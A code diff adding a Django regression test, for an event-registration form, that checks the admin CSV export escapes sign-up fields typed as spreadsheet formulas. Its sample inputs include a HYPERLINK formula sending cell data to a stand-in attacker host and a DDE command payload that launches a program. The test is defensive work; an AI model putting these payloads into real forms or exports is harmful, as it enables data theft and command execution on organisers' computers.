@@ -1,7 +1,9 @@
 """Registering from the public form: a seat or the waiting list, the confirmation with the .ics,
 the cancellation link and promotion, and clear messages when something is wrong."""
 
+import csv
 import datetime
+import io
 import re
 
 from django.contrib.auth import get_user_model
@@ -321,3 +323,21 @@ def test_an_event_number_too_long_for_the_database_is_not_found(client, events_i
     ):
         assert client.get(path).status_code == 404
         assert client.post(path, {"name": "An"}).status_code == 404
+
+
+def test_sign_ups_typed_as_formulas_stay_text_in_the_csv(client, make_event):
+    """A name like =HYPERLINK(…) from the public form ran as a formula in the organiser's Excel."""
+    event = make_event(title="Tọa đàm công thức", capacity=10)
+    register(
+        client,
+        event,
+        name='=HYPERLINK("http://evil.example/?"&A1,"Xem")',
+        organisation="@SUM(1+1)*cmd|' /C calc'!A0",
+        phone="+84 903 456 789",
+    )
+    staff = get_user_model().objects.create_superuser("btc", "btc@example.invalid", "pw")
+    client.force_login(staff)
+    body = b"".join(client.get("/admin/events/registrations/?export=csv").streaming_content)
+    [_, row] = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    assert row[1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    assert row[3] == "'+84 903 456 789" and row[4] == "'@SUM(1+1)*cmd|' /C calc'!A0"
